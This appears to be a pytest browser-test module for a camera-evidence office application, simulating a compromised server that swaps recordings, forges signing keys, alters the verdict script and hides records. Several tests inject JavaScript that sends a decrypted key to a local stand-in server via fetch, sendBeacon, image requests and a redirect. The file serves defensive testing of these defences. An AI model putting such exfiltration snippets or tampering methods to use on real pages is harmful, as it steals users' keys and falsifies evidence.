"""A compromised server: it sends another page, another recording, another camera's key, and keeps
things to itself. What the page shows then, what stops it, and what finds it.

Each test is a line of the table in docs/threat-model.md ("Replaced player or page"), also
where it says that the page shows what is not so. In front of a genuine desk is a
relay that lies (`between`).
"""

from __future__ import annotations

import io
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from between import Between, Exchange, Lie, make_between, tell_the_truth
from desk_helpers import BOOT, ONE, TWO
from playwright.sync_api import Browser, expect
from sealed_helpers import KEY, LOCKED, PASSPHRASE, at, flipped, made
from secrets_of_office import found_in, identity_text, the_key

from camerad.cli.main import main
from camerad.container.keys import SigningKey
from camerad.evidence.player_modules import statement_extents
from camerad.ledger.entries import NOTHING, facts_of_kind, sign_entry
from camerad.office.desk.page_content import page_content
from camerad.office.desk.people import DeskRole
from tests.browser.person import Person
from tests.browser.test_desk import (
    SCRIPT,
    at_desk,
    gives_reason,
    office,
    signed_in,
)
from tests.unit.office.desk.desk_scene import DeskScene
from tests.waiting import DEADLINE, until

FLAGS = ("--ignore-certificate-errors",)
ABOUT = f"/api/recordings/{TWO}"
KEY_FILE = "/page/player/key_file.js"
VERDICT = "/page/player/evidence/verdict.js"
AUTHENTIC, FORGED = "Echt und vollständig", "NICHT echt"
Capture = pytest.CaptureFixture[str]
FORGER = SigningKey.generate()
SENDS = b'  const stolen = found.join("");\n  %s;\n  return found;'
"""What a changed module does with the key, once it is open."""


@pytest.fixture
def way(tmp_path: Path) -> Iterator[Between]:
    between = make_between(tmp_path)
    yield between
    between.close()


@pytest.fixture
def scene(tmp_path: Path, way: Between) -> Iterator[DeskScene]:
    with office(tmp_path / "office", origin=way.origin, port=0) as made_scene:
        way.desk = made_scene.port
        made_scene.add("clerk", DeskRole.DESK)
        yield made_scene


@pytest.fixture
def server(way: Between) -> Iterator[Between]:
    """The server, which tells the truth until a test has it lie."""
    way.exchanges.clear()
    yield way
    way.lie = tell_the_truth


class Elsewhere:
    """Somebody else's web server. asked: addresses and bodies of requests."""

    def __init__(self) -> None:
        asked: list[bytes] = []
        self.asked = asked

        class Takes(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length", 0))
                asked.append(self.path.encode() + b"\n" + self.rfile.read(length))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST  # noqa: N815 - as the library has it

            def log_message(self, *_: object) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Takes)
        self.place = f"127.0.0.1:{self._server.server_port}"
        self.url = f"http://{self.place}/"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join(DEADLINE)
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    there = Elsewhere()
    yield there
    there.close()


# ------------------------------------------------------------------------------------------- lies


def another_file(path: str, old: bytes, new: bytes) -> Lie:
    """A file of the page is another one."""

    def lie(exchange: Exchange) -> None:
        if exchange.path == path:
            assert old in exchange.answer
            exchange.answer = exchange.answer.replace(old, new, 1)

    return lie


def another_recording(content: bytes) -> Lie:
    """A recording is another one, and its statements are."""

    def lie(exchange: Exchange) -> None:
        if exchange.path == f"{ABOUT}/statements":
            exchange.answer = b"".join(statement_extents(io.BytesIO(content)))
        if exchange.path == f"{ABOUT}/content":
            asked = re.fullmatch(r"bytes=(\d+)-(\d*)", exchange.fields.get("Range", "bytes=0-"))
            assert asked is not None
            first = int(asked[1])
            exchange.answer = content[first : int(asked[2] or len(content)) + 1]
            if exchange.status == 416:  # the genuine one is shorter than that
                exchange.status = 206
            last = first + len(exchange.answer) - 1
            exchange.answer_fields["Content-Range"] = f"bytes {first}-{last}/{len(content)}"

    return lie


def another_answer(path: str, **fields: Any) -> Lie:
    """What is said of a recording has other fields."""

    def lie(exchange: Exchange) -> None:
        if exchange.path == path and exchange.method == "GET":
            exchange.answer = json.dumps(json.loads(exchange.answer) | fields).encode()

    return lie


def all_of(*lies: Lie) -> Lie:
    def lie(exchange: Exchange) -> None:
        for one in lies:
            one(exchange)

    return lie


def without_policy(exchange: Exchange) -> None:
    exchange.answer_fields.popall("Content-Security-Policy", None)


# --------------------------------------------------------------------------- who looks, and checks


@contextmanager
def viewing(chromium: Browser, scene: DeskScene, story: str) -> Iterator[Person]:
    """A clerk who views the second recording, and has opened the key file."""
    with at_desk(chromium, scene, f"lied-{story}", forgives=("",)) as one:
        signed_in(one, scene, "clerk")
        one.page.goto(f"{scene.origin}/#recording/{TWO}")
        gives_reason(one, "Ansehen", "Az. 1")
        yield one


def opens_key(one: Person) -> None:
    """As `opens_with_key`, of a page that may be gone then."""
    chosen: Any = {"name": "office.age", "mimeType": "text/plain", "buffer": LOCKED}
    one.page.set_input_files(".camerad-player form input[type=file]", files=[chosen])
    one.page.fill(".camerad-player form input[type=password]", PASSPHRASE)
    one.page.click(".camerad-player form button", no_wait_after=True)


def says(one: Person, verdict: str) -> None:
    expect(one.page.locator(".camerad-player .verdict strong")).to_have_text(verdict)


def verify(scene: DeskScene, content: bytes, tmp_path: Path) -> int:
    """Exit code of `camerad evidence verify` by the register's key, not by what a server says."""
    file, key = tmp_path / f"{TWO}.tar", tmp_path / "cam-1.pem"
    file.write_bytes(content)
    key.write_text(KEY.public.pem)
    return main(["evidence", "verify", str(file), "--key", str(key)])


def check(server: Between, capsys: Capture) -> list[str]:
    """What `player-hash --check` finds."""
    capsys.readouterr()
    command = ["office", "player-hash", "--check", server.origin, "--authority", server.authority]
    code = main(command)
    *found, _ = capsys.readouterr().out.splitlines()
    assert code == bool(found)
    return found


def second() -> bytes:
    """The recording that is viewed, as the camera made it."""
    return made(SCRIPT, identity=TWO, marks=(3_000_000,), later_us=60_000_000).file


def damaged() -> bytes:
    """One bit of it is another, in the last fragment."""
    file = second()
    return flipped(file, file.rindex(b"age-encryption.org") + 300)


# ------------------------------------------------------------------------------------------- drill


def test_a_changed_recording_is_found_by_the_page(
    chromium: Browser, scene: DeskScene, server: Between, tmp_path: Path
) -> None:
    server.lie = another_recording(damaged())
    with viewing(chromium, scene, "recording") as one:
        says(one, FORGED)
        found = until(lambda: scene.kinds("judged"), DEADLINE, "what the tab found is written")
        assert [(it.id, it.who, it.verdict) for it in found] == [(TWO, "clerk", "not_authentic")]
        expect(one.page.locator("main .tags")).to_contain_text("NICHT echt, laut clerk")
        one.page.reload()
        expect(one.page.get_by_text("geprüft im Browser von clerk: NICHT echt.")).to_be_visible()
        expect(one.page.get_by_role("listitem").filter(has_text="NICHT echt")).to_be_visible()
    assert verify(scene, damaged(), tmp_path) == 2
    assert verify(scene, second(), tmp_path) == 0


@pytest.mark.campaign
def test_the_right_recording_with_another_camera_s_key_is_found_by_the_page(
    chromium: Browser, scene: DeskScene, server: Between
) -> None:
    key = {"camera": "cam-1", "thumbprint": FORGER.public.thumbprint, "x": FORGER.public.jwk["x"]}
    server.lie = another_answer(ABOUT, key=key)
    with viewing(chromium, scene, "key") as one:
        says(one, FORGED)


def test_a_forged_recording_with_its_forger_s_key_shows_by_the_thumbprint_alone(
    chromium: Browser,
    scene: DeskScene,
    server: Between,
    tmp_path: Path,
    capsys: Capture,
) -> None:
    forged = made(SCRIPT, identity=TWO, key=FORGER).file
    key = {"camera": "cam-1", "thumbprint": FORGER.public.thumbprint, "x": FORGER.public.jwk["x"]}
    server.lie = all_of(another_recording(forged), another_answer(ABOUT, key=key))
    with viewing(chromium, scene, "forged") as one:
        says(one, AUTHENTIC)
        one.page.get_by_text("Technisches", exact=True).click()
        shown = one.page.locator("main code", has_text=FORGER.public.thumbprint)
        expect(shown).to_be_visible()
        expect(one.page.get_by_text(KEY.public.thumbprint)).to_have_count(0)
    assert check(server, capsys) == []
    assert verify(scene, forged, tmp_path) == 2


@pytest.mark.campaign
def test_a_changed_judge_calls_a_changed_recording_authentic(
    chromium: Browser,
    scene: DeskScene,
    server: Between,
    tmp_path: Path,
    capsys: Capture,
) -> None:
    judge = another_file(VERDICT, b"  get exit() {", b"  get exit() {\n    return 0;")
    server.lie = all_of(another_recording(damaged()), judge)
    with viewing(chromium, scene, "judge") as one:
        says(one, AUTHENTIC)
    (found,) = check(server, capsys)
    assert found.startswith(f"{VERDICT}: is another file: ")
    assert verify(scene, damaged(), tmp_path) == 2


def test_a_changed_module_sends_the_key_to_its_own_server_and_leads_the_tab_elsewhere(
    chromium: Browser, scene: DeskScene, server: Between, elsewhere: Elsewhere, capsys: Capture
) -> None:
    """The policy keeps it from sending anything elsewhere by itself, as long as the server sends
    the policy. It has no say in where a tab is led to."""
    script = """
      fetch("URLfetched", { method: "POST", body: stolen, mode: "no-cors" }).catch(() => 0);
      navigator.sendBeacon("URLbeacon", stolen);
      new Image().src = `URLimage?${stolen}`;
      fetch("/api/me", { headers: { "X-Stolen": stolen } })
        .then(() => { location.href = `URLled?${stolen}`; })"""
    changed = SENDS % script.replace("URL", elsewhere.url).encode()
    server.lie = another_file(KEY_FILE, b"  return found;", changed)
    with viewing(chromium, scene, "stolen") as one:
        one.elsewhere = (elsewhere.place,)
        opens_key(one)
        until(lambda: elsewhere.asked, DEADLINE, "the tab is led elsewhere")
        one.page.wait_for_url(f"{elsewhere.url}led**")
        refused = [text for text in one.said if "Content Security Policy" in text]
    for what in ("fetched", "beacon", "image"):
        assert any(f"{elsewhere.url}{what}" in text for text in refused), refused
    asked = {one.split(b"?")[0].strip() for one in elsewhere.asked}
    assert asked - {b"/favicon.ico"} == {b"/led"}
    assert identity_text().encode() in elsewhere.asked[0]
    sent = b"\n".join(one.sent for one in server.exchanges)
    assert "key as text" in found_in(sent, the_key())
    (found,) = check(server, capsys)
    assert found.startswith(f"{KEY_FILE}: is another file: ")


@pytest.mark.campaign
def test_without_its_policy_the_page_sends_the_key_anywhere(
    chromium: Browser,
    scene: DeskScene,
    server: Between,
    elsewhere: Elsewhere,
    capsys: Capture,
) -> None:
    script = b'fetch("%s", { method: "POST", body: stolen, mode: "no-cors" })'
    changed = another_file(KEY_FILE, b"  return found;", SENDS % (script % elsewhere.url.encode()))
    server.lie = all_of(changed, without_policy)
    with viewing(chromium, scene, "policy") as one:
        one.elsewhere = (elsewhere.place,)
        opens_key(one)
        until(lambda: elsewhere.asked, DEADLINE, "it was sent elsewhere")
    assert identity_text().encode() in elsewhere.asked[0]
    found = check(server, capsys)
    policy = [
        one for one in found if one.endswith("Content-Security-Policy is another one: it has none")
    ]
    assert len(policy) == len(page_content()) + 1
    assert sum(one.startswith(f"{KEY_FILE}: is another file") for one in found) == 1


def test_a_ledger_that_another_key_signed_is_found_before_a_package_is_made(
    chromium: Browser, scene: DeskScene, server: Between
) -> None:
    tab, own = scene.signed_in("clerk"), {"Origin": scene.origin}
    for path, said in (("open", {}), ("add", {"recording": TWO})):
        assert tab.ask("POST", f"/api/cases/{path}", {"number": "P 1", **said}, own).status == 200
    told = tab.ask("GET", f"{ABOUT}/ledgers").said
    facts = {"id": TWO, "reason": "stop", "retention_days": 14, "flagged": False, "final": "f" * 64}
    closed = facts_of_kind("closed", facts | {"ended": at(0)})
    forged = sign_entry(FORGER, NOTHING, BOOT, at(0), closed).token.decode()
    server.lie = another_answer(f"{ABOUT}/ledgers", tokens=[*told["tokens"], forged])
    with at_desk(chromium, scene, "lied-ledger", forgives=("",)) as one:
        signed_in(one, scene, "clerk")
        one.page.goto(f"{scene.origin}/#cases/P%201")
        gives_reason(one, "Paket für die Staatsanwaltschaft erstellen", "Az. P 1")
        expect(one.page.get_by_text("ist nicht so unterschrieben")).to_be_visible()
        # A key of its own for the office's says how it ended for nobody but itself.
        forger = {"thumbprint": FORGER.public.thumbprint, "pem": FORGER.public.pem}
        more = {"tokens": [*told["tokens"], forged], "signers": [*told["signers"], forger]}
        server.lie = another_answer(f"{ABOUT}/ledgers", **more)
        gives_reason(one, "Paket für die Staatsanwaltschaft erstellen", "Az. P 1")
        expect(
            one.page.locator("li", has_text=TWO).filter(has_text=f": {AUTHENTIC}")
        ).to_be_visible()
        # What is left out, nobody misses here.
        server.lie = another_answer(f"{ABOUT}/ledgers", tokens=[])
        one.page.reload()
        gives_reason(one, "Paket für die Staatsanwaltschaft erstellen", "Az. P 1")
        expect(
            one.page.locator("li", has_text=TWO).filter(has_text=f": {AUTHENTIC}")
        ).to_be_visible()


def test_a_list_can_leave_out_a_recording_and_call_another_deleted(
    chromium: Browser,
    scene: DeskScene,
    server: Between,
    tmp_path: Path,
    capsys: Capture,
) -> None:
    """The page cannot know. Who reads the directory itself, or has the camera's ledger, can."""

    def lie(exchange: Exchange) -> None:
        if exchange.path.startswith("/api/recordings?") or exchange.path == "/api/recordings":
            said = json.loads(exchange.answer)
            said["rows"] = [row for row in said["rows"] if row["id"] != ONE]
            exchange.answer = json.dumps(said).encode()
        if exchange.path == ABOUT:
            said = json.loads(exchange.answer)
            gone = {"state": "deleted", "deleted_us": 1_795_540_000_000_000}
            gone |= {"deleted_why": "expired", "deleted_clock": "synchronised"}
            said |= {"said": None, "rows": [said["rows"][0] | gone]}
            exchange.answer = json.dumps(said).encode()

    server.lie = lie
    with at_desk(chromium, scene, "lied-list", forgives=("",)) as one:
        signed_in(one, scene, "clerk")
        expect(one.page.get_by_role("row").filter(has_text="cam-1").first).to_be_visible()
        assert one.page.locator(f"a[href='#recording/{ONE}']").count() == 0
        one.page.goto(f"{scene.origin}/#recording/{TWO}")
        expect(one.page.get_by_text("Gelöscht am")).to_be_visible()
        expect(one.page.get_by_role("button", name="Ansehen")).to_have_count(0)
    key = tmp_path / "cam-1.pem"
    key.write_text(KEY.public.pem)
    capsys.readouterr()
    command = ["evidence", "verify", scene.directory, "--key", str(key), "--json", "--office-key"]
    assert main([*command, str(scene.office.settings.office_key)]) in (0, 1)
    said = json.loads(capsys.readouterr().out)
    verdicts = {one["id"]: one["verdict"] for one in said["recordings"]}
    assert verdicts[ONE] in ("authentic", "qualified")
    assert verdicts[TWO] in ("authentic", "qualified")
